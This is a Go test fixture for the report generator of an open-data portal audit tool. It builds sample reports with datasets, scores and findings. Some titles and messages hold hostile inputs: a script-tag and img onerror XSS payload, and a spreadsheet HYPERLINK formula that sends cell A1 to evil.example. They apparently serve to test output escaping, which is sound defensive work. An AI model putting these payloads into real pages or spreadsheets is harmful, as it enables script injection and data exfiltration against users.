package reports

import (
	"fmt"
	"time"

	"github.com/vigie-audit/vigie"
	"github.com/vigie-audit/vigie/store"
)

// evilTitle is portal text that tries to run script in HTML and a formula in
// a spreadsheet.
const evilTitle = `<script>alert("x")</script><img src=x onerror=alert(1)>`
const evilFormula = `=HYPERLINK("http://evil.example/?"&A1,"click")`

func f64(v float64) *float64 { return &v }

// sampleReport builds a small report in memory, the way Build would.
func sampleReport(lang string) *Report {
	now := &store.ReportIndicators{
		Datasets: 3, Organizations: 2, OpenLicence: 2, MachineReadable: 2, OpenFormat: 1,
		Freshness: map[vigie.Freshness]int{"fresh": 1, "due": 0, "overdue": 1, "delinquent": 0, "not_applicable": 1, "unknown": 0},
		Ratings:   map[vigie.Rating]int{"excellent": 0, "good": 1, "sufficient": 1, "bad": 1},
		Stars:     [6]int{1, 0, 1, 1, 0, 0},
		Errors:    3, Warnings: 2, Infos: 1,
		Overall: f64(55.5), Completeness: f64(70), FreshnessScore: f64(50), Openness: f64(40), Availability: f64(66.7), MQAPoints: f64(200),
		LinkClasses: map[vigie.LinkClass]int{"ok": 3, "broken": 1, "unsure": 1}, LinkURLs: 10,
	}
	then := &store.ReportIndicators{
		Datasets: 2, Organizations: 1, OpenLicence: 1, MachineReadable: 1, OpenFormat: 1,
		Freshness:    map[vigie.Freshness]int{"fresh": 0, "overdue": 1, "not_applicable": 1},
		Ratings:      map[vigie.Rating]int{"good": 0, "sufficient": 1, "bad": 1},
		Completeness: f64(60), Overall: f64(50),
		LinkClasses: map[vigie.LinkClass]int{"ok": 2, "broken": 2}, LinkURLs: 8,
	}
	r := &Report{
		Portal:      "https://portal.example/recherche",
		GeneratedAt: time.Date(2026, 11, 26, 12, 0, 0, 0, time.UTC),
		HarvestRun:  &Run{ID: 4, StartedAt: time.Date(2026, 11, 26, 10, 0, 0, 0, time.UTC), Mode: "full"},
		ScoreRun:    Run{ID: 9, StartedAt: time.Date(2026, 11, 26, 11, 0, 0, 0, time.UTC), Profile: "donneesquebec"},
		CompareRun:  &Run{ID: 7, StartedAt: time.Date(2026, 11, 1, 11, 0, 0, 0, time.UTC), Profile: "donneesquebec"},
		Profile:     "donneesquebec",
		Lang:        lang,
	}
	r.Commitment = indicators(lang, now, then, baselineOf("donneesquebec", vigie.DefaultPortal, nil, lang)) // the profile declares the 2021 baseline
	r.Summary = summary(now)
	r.Organizations = []Organization{
		{Name: "ville-a", Title: evilTitle, Datasets: 2, Scores: vigie.Scores{Overall: f64(40), Completeness: f64(60)}, OpenLicence: f64(50), Tau: f64(0), BrokenLinks: new(1), Findings: Severities{Error: 3}},
		{Name: "ministere-b", Title: "Ministère B", Datasets: 1, Scores: vigie.Scores{Overall: f64(87.5), Completeness: f64(90)}, OpenLicence: f64(100), Tau: f64(100), BrokenLinks: new(0)},
	}
	Rank(r.Organizations)
	r.TopFindings = []RuleCount{{Rule: "DQ-LICENCE", Dimension: "openness", Severity: "error", Datasets: 2, Findings: 2, Points: 40, Hint: "Choisissez une licence ouverte"}}
	since := time.Date(2026, 10, 1, 0, 0, 0, 0, time.UTC)
	r.Links = []Link{{URL: "http://files.example/data.csv", Class: "broken", Status: 404, Reason: "404 Not Found", Since: &since,
		CheckedAt: time.Date(2026, 11, 25, 0, 0, 0, 0, time.UTC), Datasets: []LinkUse{{Name: "evil-ds", Title: evilTitle, Organization: "ville-a", URL: DatasetURL(r.Portal, "evil-ds")}}}}
	r.History = []HistoryPoint{
		{Run: *r.CompareRun, Indicators: Indicators(lang, then, nil)},
		{Run: r.ScoreRun, Indicators: r.Commitment},
	}
	r.Datasets = []Dataset{
		{ID: "id-1", Name: "evil-ds", Title: evilTitle, Organization: "ville-a", URL: DatasetURL(r.Portal, "evil-ds"),
			Scores: vigie.Scores{Overall: f64(30), Completeness: f64(50), Openness: f64(0), Availability: f64(50)},
			MQA:    vigie.MQA{Points: 100, Rating: "bad"}, FreshnessStatus: "overdue", Stars: 0, Counts: Severities{Error: 2, Warning: 1},
			Findings: []Finding{
				{Rule: "DQ-LICENCE", Dimension: "openness", Severity: "error", Points: 20, Message: "Licence non ouverte", Hint: "Choisissez une licence ouverte"},
				{Rule: "RES-BROKEN", Dimension: "availability", Severity: "error", ResourceID: "r-1", Points: 50, Message: evilFormula, Hint: "-1+2"},
				{Rule: "DQ-TAGS", Dimension: "completeness", Severity: "warning", Points: 5, Message: "Aucun mot-clé", Hint: "@mention"},
			}},
		{ID: "id-2", Name: "formula-ds", Title: evilFormula, Organization: "ville-a", URL: DatasetURL(r.Portal, "formula-ds"),
			Scores: vigie.Scores{Overall: f64(50), Completeness: f64(70), Freshness: f64(100), Openness: f64(60), Availability: f64(100)},
			MQA:    vigie.MQA{Points: 150, Rating: "sufficient"}, FreshnessStatus: "fresh", Stars: 2, OpenLicence: true, Counts: Severities{Error: 1},
			Findings: []Finding{{Rule: "DQ-LICENCE", Dimension: "openness", Severity: "error", Points: 20, Message: "Licence non ouverte", Hint: "Choisissez une licence ouverte"}}},
		{ID: "id-3", Name: "budget", Title: "Budget\tannuel\r\n2025", Organization: "ministere-b", URL: DatasetURL(r.Portal, "budget"),
			Scores: vigie.Scores{Overall: f64(87.5), Completeness: f64(90), Freshness: nil, Openness: f64(60), Availability: nil},
			MQA:    vigie.MQA{Points: 260, Rating: "good"}, FreshnessStatus: "not_applicable", Stars: 3, OpenLicence: true},
	}
	return r
}

// bigReport builds n datasets in memory (for the writer benchmarks).
func bigReport(n int) *Report {
	r := sampleReport("fr")
	base := r.Datasets
	r.Datasets = make([]Dataset, n)
	for i := range r.Datasets {
		d := base[i%len(base)]
		d.ID = fmt.Sprintf("id-%d", i)
		d.Name = fmt.Sprintf("jeu-%d", i)
		d.Title = fmt.Sprintf("Jeu de données numéro %d", i)
		d.URL = DatasetURL(r.Portal, d.Name)
		r.Datasets[i] = d
	}
	return r
}
